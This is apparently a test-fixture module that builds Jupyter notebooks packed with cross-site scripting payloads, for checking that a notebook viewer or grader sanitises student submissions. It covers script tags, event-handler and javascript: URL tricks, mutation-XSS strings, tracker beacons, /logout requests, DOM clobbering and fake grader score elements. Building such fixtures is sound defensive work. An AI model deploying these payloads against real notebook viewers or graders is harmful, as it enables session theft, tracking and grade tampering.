"""What a student may put into a notebook: all that could run in the page that shows it, and honest work beside it.

Whatever runs notes its name in `window.__ran` and asks `listener` for `ran/NAME`; some only ask, as a tracker does.
"""

from __future__ import annotations

import base64
from html import escape
from typing import Any

from nbformat import from_dict
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell

PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
LISTENER = "http://127.0.0.1:9"
"""The discard port: nobody listens."""

PANDAS = """<div>
<style scoped>
    .dataframe tbody tr th:only-of-type { vertical-align: middle; }
</style>
<table border="1" class="dataframe">
  <thead><tr style="text-align: right;"><th></th><th>honest column</th></tr></thead>
  <tbody><tr><th>0</th><td colspan="1">3.14159</td></tr></tbody>
</table>
<p>1 rows × 1 columns</p>
</div>"""
FIGURE = '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20" viewBox="0 0 9 9"><circle r="9"/></svg>'
PROSE = f"""# An honest heading

A [link](https://example.org/page?a=1&b=2), one [inside](#An-honest-heading), an autolink <https://example.org/auto>,
`a < b && c > d`, **bold**, *emphasis*, $a < b$ and $x^2$.

> quoted

| left | right |
|:-----|------:|
| 1 < 2 | honest cell |

```python
honest_code = 1 < 2
```

- [x] done

![a picture](data:image/png;base64,{PIXEL}) ![attached](attachment:plot.png) ![beside](figures/plot%201.png)
<img src="figures/plot.png" width="80" alt="sized">

$$\\begin{{aligned}} y &= x^2 \\\\ z &< 1 \\end{{aligned}}$$
"""
HONEST_WORDS = (
    *("honest column", "3.14159", "An honest heading", "honest cell", "honest_code", "honest print", "honest error"),
    *("honest latex", "honest markdown output", "honest figure", "<Figure honest>", "honest raw text"),
)


def _js(name: str, listener: str) -> str:
    return f"(window.__ran=window.__ran||[]).push('{name}');new Image().src='{listener}/ran/{name}'"


def _html(listener: str) -> dict[str, str]:
    """Texts of HTML by name, for outputs, Markdown and raw cells."""

    def on(name: str) -> str:
        return escape(_js(name, listener))

    def script(name: str) -> str:
        return f"<script>{_js(name, listener)}</script>"

    def page(name: str) -> str:
        return base64.b64encode(script(name).encode()).decode()

    return {
        "script": script("script"),
        "script-src": f'<script src="{listener}/ran/script-src"></script>',
        "script-module": f'<script type="module">{_js("script-module", listener)}</script>',
        "script-case": f"<ScRiPt >{_js('script-case', listener)}</sCrIpT\n>",
        "script-split": f"<scr<script></script>ipt>{_js('script-split', listener)}</script>",
        "script-unclosed": f"<table><td>{script('script-unclosed')}<img src=x onerror={on('script-unclosed')}//",
        "script-mathjax": f'<script type="text/x-mathjax-config">{_js("script-mathjax", listener)}</script>',
        "img-onerror": f'<img src="x:" onerror="{on("img-onerror")}">',
        "img-slash": f'<img/src="x:"/onerror="{on("img-slash")}"/>',
        "img-javascript": f'<img src="javascript:{on("img-javascript")}">',
        "img-tracker": f'<img src="{listener}/tracker/img.png">',
        "img-srcset": f'<img srcset="{listener}/tracker/srcset.png 1x" src="">',
        "img-server": '<img src="/logout?asked=img">',
        "img-up": '<img src="../../../../logout?asked=up"><img src="%2e%2e/logout.png"><img src="..\\..\\logout.png">',
        "img-protocol-relative": f'<img src="{listener.partition(":")[2]}/tracker/relative.png">',
        "svg-onload": f'<svg onload="{on("svg-onload")}"><g/></svg>',
        "svg-script": f"<svg><script>{_js('svg-script', listener)}</script></svg>",
        "svg-foreign": f'<svg><foreignObject><img src="x:" onerror="{on("svg-foreign")}"></foreignObject></svg>',
        "svg-animate": f'<svg><animate onbegin="{on("svg-animate")}" attributeName="x" dur="1s"/></svg>',
        "svg-link": f'<svg><a href="javascript:{on("svg-link")}"><text y="20">svg link</text></a></svg>',
        "iframe": f'<iframe src="{listener}/ran/iframe"></iframe>',
        "iframe-javascript": f'<iframe src="javascript:parent.{on("iframe-javascript")}"></iframe>',
        "iframe-srcdoc": f'<iframe srcdoc="{escape(script("iframe-srcdoc"))}"></iframe>',
        "iframe-data": f'<iframe src="data:text/html;base64,{page("iframe-data")}"></iframe>',
        "object": f'<object data="data:text/html;base64,{page("object")}"></object>',
        "embed": f'<embed src="data:text/html;base64,{page("embed")}">',
        "details": f'<details open ontoggle="{on("details")}"><summary>more</summary></details>',
        "video": f'<video onerror="{on("video")}"><source src="x:" onerror="{on("video")}"></video>',
        "audio": f'<audio src="x:" onerror="{on("audio")}"></audio>',
        "focus": f'<input autofocus onfocus="{on("focus")}"><a tabindex=0 onfocus="{on("focus")}">f</a>',
        "hover": f'<b onmouseover="{on("hover")}" onclick="{on("hover")}">hover</b>',
        "marquee": f'<marquee onstart="{on("marquee")}">m</marquee>',
        "body": f'<body onload="{on("body")}" onpageshow="{on("body")}">',
        "animation": "<style>@keyframes k{}</style>"
        f'<b style="animation:k" onanimationstart="{on("animation")}">a</b>',
        "link-javascript": f'<a href="javascript:{on("link-javascript")}">link</a>',
        "link-entities": f'<a href="jav&#x0A;ascript&colon;{on("link-entities")}">link</a>',
        "link-control": f'<a href="\x01 javascript:{on("link-control")}">link</a>',
        "link-files": "".join(f'<a href="{one}files/javascript:{on("link-files")}">link</a>' for one in ("", "/")),
        "link-data": f'<a href="data:text/html;base64,{page("link-data")}">link</a>',
        "link-vbscript": '<a href="vbscript:msgbox(1)">link</a>',
        "link-beside": '<a href="evil.html">plot</a> <a href="./evil.svg">plot</a> <a href="/formgrader?path=.">p</a>',
        "form": f'<form action="{listener}/ran/form"><button formaction="javascript:{on("form")}">send</button></form>',
        "meta": f'<meta http-equiv="refresh" content="0;url={listener}/ran/meta">',
        "base": f'<base href="{listener}/ran/base/">',
        "stylesheet": f'<link rel="stylesheet" href="{listener}/tracker/sheet.css">',
        "style": f"<style>@import url({listener}/tracker/style.css); body {{ display: none }}</style>",
        "style-attribute": f'<b style="background:url({listener}/tracker/a);cursor:url({listener}/tracker/b),auto">b',
        "style-fixed": '<div style="position:fixed;inset:0;z-index:9999;margin:-900px;opacity:0">over everything</div>',
        "mutation-math": (
            "<math><mtext><table><mglyph><style><!--</style>"
            f'<img title="--&gt;&lt;img src=x: onerror={on("mutation-math")}&gt;">'
        ),
        "mutation-noscript": f'<noscript><p title="</noscript><img src=x: onerror={on("mutation-noscript")}>">',
        "mutation-svg": f'<svg></p><style><a id="</style><img src=x: onerror={on("mutation-svg")}>">',
        "comment": f"<!--> {script('comment')} --!> <!-- > -->",
        "cdata": f"<![CDATA[<img src=x: onerror={on('cdata')}>]]><?x <img src=x: onerror={on('cdata')}>?>",
        "plaintext": f"<xmp></xmp><textarea></textarea>{script('plaintext')}<plaintext>",
        "tooltip": (
            f'<ul><li class="next"><a title="<img src=x: onerror={on("tooltip")}>" data-html="true">tip</a></li></ul>'
        ),
        "modal": f'<a data-toggle="modal" data-remote="{listener}/ran/modal" data-target="#m">a</a><b id="m">b</b>',
        "clobber": '<img name="MathJax"><form id="formgrader" name="body"></form><a id="base_url" name="cookie"></a>',
        "grader": (
            '<div class="nbgrader_cell"><b id="test-double" class="score">x</b>'
            '<a class="full-credit" href="#">next page</a></div><div id="statusmessage">fake</div>'
        ),
    }


def _bundles(listener: str) -> dict[str, tuple[dict[str, Any], dict[str, Any]]]:
    """Outputs beyond text/html: data and metadata by name."""

    def js(name: str) -> str:
        return _js(name, listener)

    def script(name: str) -> str:
        return f"<script>{js(name)}</script>"

    def no_spaces(name: str) -> str:
        return js(name).replace("'", "`").replace(" ", "\t").replace("new\tImage()", "(new(Image))")

    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{escape(js("mime-svg"))}">{script("mime-svg")}</svg>'
    plotly = (
        '<div id="plot" class="plotly-graph-div" style="height:100%"></div>'
        f"<script>window.PLOTLYENV={{}};{js('plotly')}</script>"
    )
    return {
        "mime-javascript": ({"application/javascript": js("mime-javascript")}, {}),
        "mime-text-javascript": ({"text/javascript": js("mime-text-javascript")}, {}),
        "mime-svg": ({"image/svg+xml": svg}, {}),
        "mime-pdf": ({"application/pdf": "JVBERi0="}, {}),
        "mime-mermaid": ({"text/vnd.mermaid": f"</pre>{script('mime-mermaid')}"}, {}),
        "mime-unknown": ({"text/x-evil": script("mime-unknown"), "text/plain": "plain"}, {}),
        "html-in-latex": ({"text/latex": f"$$x$$ </div>{script('html-in-latex')}"}, {}),
        "latex-href": ({"text/latex": f"$\\href{{javascript:{js('latex-href')}}}{{click}}$"}, {}),
        "html-in-plain": ({"text/plain": script("html-in-plain")}, {}),
        "html-in-png": ({"image/png": f'"><img src="x:" onerror="{js("html-in-png")}">'}, {}),
        "markdown-output": (
            {"text/markdown": f"{script('markdown-output')} [a](javascript:{js('markdown-output')})"},
            {},
        ),
        "isolated": ({"text/html": script("isolated")}, {"text/html": {"isolated": True}}),
        "png-width": ({"image/png": "AAAA"}, {"image/png": {"width": f"1\tonerror={no_spaces('png-width')}"}}),
        "png-height": ({"image/png": "AAAA"}, {"height": f"1\tonerror={no_spaces('png-height')}"}),
        "png-file": ({"image/png": PIXEL}, {"filenames": {"image/png": f"{listener}/tracker/png-file.png"}}),
        "jpeg-alt": ({"image/jpeg": "AAAA"}, {"alt": f'" onerror="{js("jpeg-alt")}', "width": "1 onerror=x()"}),
        "plotly": ({"application/vnd.plotly.v1+json": {"data": [], "layout": {}}, "text/html": plotly}, {}),
        "widget": ({"application/vnd.jupyter.widget-view+json": {"model_id": "m", "x": script("widget")}}, {}),
    }


def _cells(listener: str) -> dict[str, list[Any]]:
    """Cells of other kinds, by name."""

    def script(name: str) -> str:
        return f"<script>{_js(name, listener)}</script>"

    def img(name: str) -> str:
        return f'<img src="x:" onerror="{escape(_js(name, listener))}">'

    def markdown(text: str, **more: Any) -> Any:
        return from_dict({**new_markdown_cell(text), **more})

    evil_svg = base64.b64encode(f'<svg xmlns="http://www.w3.org/2000/svg">{script("attached")}</svg>'.encode()).decode()
    mark = {"grade": True, "solution": True, "locked": False, "task": False, "points": 1, "schema_version": 3}
    comment = {**mark, "grade_id": f'x"></a>{img("grade-id")}', "comment": img("comment"), "score": 0}
    javascript = f"javascript:{_js('markdown-link', listener)}".replace(" ", "%20")
    svg_file = new_code_cell("1", outputs=[new_output("display_data", {"image/svg+xml": "<svg/>"})])
    svg_file.outputs[0]["svg_filename"] = f"{listener}/tracker/svg-file.svg"
    long_code = new_code_cell("1", metadata={"tags": [f'x">{img("tags")}'], "magics_language": img("magics")})
    return {
        "markdown-link": [
            markdown(f"[a]({javascript}) [b][r] <{javascript}> ![c]({javascript})\n\n[r]: {javascript}"),
            markdown("[x](javascript&colon;alert(1)) [y](JaVaScRiPt:alert(1)) [z](  javascript:alert(1))"),
        ],
        "markdown-heading": [markdown(f"# {img('markdown-heading')}\n\n# a\n{img('markdown-heading')}")],
        "markdown-fence": [
            markdown(f"```mermaid\n</pre>{script('markdown-fence')}\n```"),
            markdown(f'```"><img/src=x:/onerror=alert(1)>\n{script("markdown-fence")}\n```'),
        ],
        "markdown-math": [
            markdown(f"$x{img('markdown-math')}$ $$ {script('markdown-math')} $$"),
            markdown(f"\\begin{{a}}{img('markdown-math')}\\end{{a}}"),
        ],
        "markdown-title": [markdown(f"[a](https://a.org '\"onmouseover={_js('markdown-title', listener)} x=\"')")],
        "markdown-tracker": [markdown(f"![a]({listener}/tracker/markdown.png) ![b](/logout?asked=markdown)")],
        "attached": [
            markdown("![a](attachment:a.svg)", attachments={"a.svg": {"image/svg+xml": evil_svg}}),
            markdown("![a](attachment:b)", attachments={"b": {'x" onerror="alert(1)': "AAAA", "text/html": "AAAA"}}),
            markdown("![a](attachment:c)", attachments={"c": {"image/png": f'A" onerror="{img("attached")}'}}),
            markdown("![a](attachment:nowhere.png) honest markdown beside a missing attachment"),
            markdown("![a](attachment:empty)", attachments={"empty": {}}),
        ],
        "raw": [
            new_raw_cell(script("raw") + img("raw"), metadata={"raw_mimetype": "text/html"}),
            new_raw_cell(script("raw") + f'<a href="{listener}">raw link</a>'),
        ],
        "stream": [new_code_cell("1", outputs=[new_output("stream", text=f"\x1b[31m{script('stream')}\x1b[0m")])],
        "error": [
            new_code_cell(
                "1", outputs=[new_output("error", ename=img("error"), evalue=img("error"), traceback=[img("error")])]
            )
        ],
        "source": [new_code_cell(f"'''</pre></div>{script('source')}'''")],
        "cell-metadata": [
            long_code,
            new_code_cell("hidden_from_the_teacher = 1", metadata={"transient": {"remove_source": True}}),
        ],
        "comment": [
            new_code_cell("1", metadata={"nbgrader": comment}),
            markdown("text", metadata={"nbgrader": comment}),
            markdown("text", metadata={"nbgrader": {**comment, "grade_id": "no-such-cell"}}),
        ],
        "svg-file": [svg_file],
    }


def _metadata(listener: str) -> dict[str, Any]:
    text = f"</title></script><script>{_js('notebook-metadata', listener)}</script>"
    widgets = {"state": {"m": {"x": text}}, "version_major": 2, "version_minor": 0}
    return {
        "title": text,
        "authors": [{"name": text}],
        "kernelspec": {"name": "python3", "display_name": text, "language": text},
        "language_info": {"name": f'"{text}', "pygments_lexer": f'x" onmouseover="{text}'},
        "widgets": {"application/vnd.jupyter.widget-state+json": widgets},
    }


def _honest() -> list[Any]:
    return [
        from_dict({**new_markdown_cell(PROSE), "attachments": {"plot.png": {"image/png": PIXEL}}}),
        new_code_cell(
            "honest_code",
            execution_count=1,
            outputs=[
                new_output("stream", text="\x1b[32mhonest print\x1b[0m\n"),
                new_output("execute_result", {"text/html": PANDAS, "text/plain": "not shown"}, execution_count=1),
                new_output(
                    "display_data", {"image/png": PIXEL, "text/plain": "x"}, metadata={"image/png": {"width": 40}}
                ),
                new_output("display_data", {"image/svg+xml": FIGURE}),
                new_output("display_data", {"text/html": f"<div>honest figure {FIGURE}</div>"}),
                new_output("display_data", {"text/latex": "$$\\text{honest latex}$$"}),
                new_output("display_data", {"text/markdown": "*honest markdown output*"}),
                new_output(
                    "display_data", {"text/html": "<div><script>1</script></div>", "text/plain": "<Figure honest>"}
                ),
                new_output("error", ename="ValueError", evalue="honest error", traceback=["honest error"]),
            ],
        ),
        new_raw_cell("honest raw text"),
    ]


def pieces(listener: str = LISTENER) -> dict[str, list[Any]]:
    """Return hostile cells by name."""
    found: dict[str, list[Any]] = {}
    for name, html in _html(listener).items():
        outputs = [new_output("display_data", {"text/html": html}), new_output("display_data", {"text/markdown": html})]
        found[name] = [new_code_cell("1", outputs=outputs), new_markdown_cell(f"{html}\n\ninline {html}")]
    for name, (data, metadata) in _bundles(listener).items():
        found[name] = [new_code_cell("1", outputs=[new_output("display_data", data, metadata=metadata)])]
    for name, cells in _cells(listener).items():
        found[name] = found.get(name, []) + cells
    return found


def notebook_of(cells: list[Any], listener: str = LISTENER, *, honest: bool = True) -> Any:
    """Return a notebook with hostile metadata, honest cells and the cells given."""
    notebook = new_notebook()
    notebook.cells = [from_dict(cell) for cell in [*_honest(), *cells][0 if honest else len(_honest()) :]]
    notebook.metadata = from_dict(_metadata(listener))
    for index, cell in enumerate(notebook.cells):
        cell["id"] = f"cell-{index}"
    return notebook
